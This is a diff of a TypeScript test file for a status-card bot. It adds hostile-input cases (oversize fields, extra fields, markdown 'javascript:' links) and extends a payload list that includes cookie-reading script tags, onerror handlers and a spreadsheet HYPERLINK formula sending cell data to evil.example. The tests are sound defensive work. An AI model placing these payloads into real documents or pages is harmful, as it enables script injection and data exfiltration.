@@ -84,6 +84,11 @@ const cases: InvokeCase[] = [
   ['revised date in the past', 'ann', async () => execute(await card(ITEMS.ann, { rag: 'red', note: 'Late', revisedDate: '2018-01-31' })), { refusal: INVALID, problem: /The revised date is in the past: give the date the item will now be delivered/ }],
   ['Red without a note', 'ann', async () => execute(await card(ITEMS.ann, { rag: 'red', note: '   ' })), { refusal: INVALID, problem: /A note is required for Red/ }],
   ['note as an object instead of text, for Amber', 'ann', async () => execute(await card(ITEMS.ann, { rag: 'amber', note: { text: 'x' } })), { refusal: INVALID, problem: /A note is required for Amber/ }],
+  ['oversize note (100,000 characters)', 'ann', async () => execute(await card(ITEMS.ann, { rag: 'green', note: 'y'.repeat(100_000) })), { refusal: INVALID, problem: /The note is 100,000 characters; the limit is 2,000/ }],
+  ['rag of 100,000 characters', 'ann', async () => execute(await card(ITEMS.ann, { rag: 'r'.repeat(100_000) })), { refusal: INVALID, problem: /"r+…/ }],
+  ['figure of 100,000 characters', 'ann', async () => execute(await card(ITEMS.ann, { rag: 'green', figure_0: '9x'.repeat(50_000) })), { refusal: INVALID, problem: /"(9x)+…/ }],
+  ['a thousand extra fields on a card for a removed item', 'ann', async () => execute({ ...(await card(ITEMS.ann)), itemKey: 'zz-00000000', rag: 'green', ...Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`extra_${i}`, 'x'.repeat(200)])) }), { refusal: GONE }],
+  ['a markdown link as the status', 'ann', async () => execute(await card(ITEMS.ann, { rag: '[Click to confirm](javascript:alert(1))' })), { refusal: INVALID, problem: /is not a status/ }],
   ['oversize note (2,001 characters)', 'ann', async () => execute(await card(ITEMS.ann, { rag: 'green', note: 'x'.repeat(2001) })), { refusal: INVALID, problem: /The note is 2,001 characters; the limit is 2,000/ }],
 
   // A card that is not one of ours, or has lost its identity.
@@ -126,6 +131,7 @@ describe('hostile card invokes are answered clearly and write nothing', () => {
       const text = cardText(res.body.value);
       expect(text).toMatch(expected.refusal);
       if (expected.problem) expect(text).toMatch(expected.problem);
+      for (const t of textBlocks(res.body.value)) for (const re of LINKISH) expect(t).not.toMatch(re);
       expectValidCards([res.body.value]);
     }
     await app.running.bot.service?.idle();
@@ -196,6 +202,8 @@ const PAYLOADS: Array<[name: string, note: string]> = [
   ['a script tag', '<script>alert(document.cookie)</script> Venue booked'],
   ['an inline javascript: markdown link', 'See [the plan](javascript:alert(1)) for details'],
   ['a javascript: link with spaces and case', 'See [x]( JavaScript:alert(1) ) now'],
+  ['a reference-style javascript: link', 'See [the plan][1]\n\n[1]: javascript:alert(1)'],
+  ['an autolink to javascript:', 'Go to <javascript:alert(1)> now'],
   ['a spreadsheet formula', '=HYPERLINK("http://evil.example/?"&A1,"Click for the update")'],
   ['an image with an onerror handler', '<img src=x onerror=alert(1)> done'],
 ];
